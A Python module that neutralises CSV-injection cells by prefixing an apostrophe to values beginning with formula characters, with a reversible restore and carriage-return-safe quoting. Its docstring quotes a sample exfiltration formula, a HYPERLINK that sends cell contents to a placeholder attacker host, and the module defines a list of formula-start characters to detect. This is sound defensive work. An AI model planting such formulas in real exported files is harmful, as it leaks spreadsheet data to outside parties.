"""CSV cells that a spreadsheet will not run as formulas (OWASP "CSV Injection").

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula (or DDE call) to
Excel and LibreOffice, e.g. `=HYPERLINK("https://attacker/?"&A1,"click")`; prefixing `'` makes it
text. A cell that already starts with `'` gets one more, so the mapping is one-to-one: `restore`
gives back the exact value, and a verifier can recompute the exported cell from the original.

`line` also quotes every cell holding a carriage return: Python's csv writer quotes only the
characters of its line terminator, so with "\n" a bare "\r" in a value would end the row there in
a reader (and start a new row with whatever follows, formula included).
"""

import csv
import io
from collections.abc import Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PREFIXED = (*FORMULA_START, "'")


def neutralise(cell: str) -> str:
    """The cell as it is written to a CSV file: `'` before a formula start (or a leading `'`)."""
    return f"'{cell}" if cell.startswith(_PREFIXED) else cell


def restore(cell: str) -> str:
    """The value a neutralised cell stands for (a cell not in neutralised form is left as it is)."""
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(_PREFIXED) else cell


def line(cells: Iterable[str]) -> str:
    """One CSV line ending in "\\n", cells with "\\r" or "\\n" quoted (cells as given: neutralise first)."""
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerow(cells)
    return buf.getvalue()[:-2] + "\n"  # "\r\n" as the terminator makes the writer quote both
